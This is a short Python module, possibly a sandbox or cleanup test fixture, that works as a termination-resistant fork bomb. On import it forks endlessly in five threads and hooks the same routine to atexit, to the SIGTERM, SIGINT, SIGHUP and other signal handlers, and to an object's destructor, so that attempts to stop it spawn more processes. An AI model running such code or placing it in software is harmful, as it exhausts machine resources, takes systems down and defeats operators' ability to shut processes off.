"""Leaves threads, timers and handlers behind that go on when its process should end."""

import atexit
import os
import signal
import threading
import time

HONEST = 0.0


def live_on(*arguments):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


atexit.register(live_on)
for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE, signal.SIGXCPU, signal.SIGCHLD):
    signal.signal(number, live_on)
for _ in range(5):
    threading.Thread(target=live_on).start()


class Undying:
    def __del__(self):
        live_on()


keep = Undying()
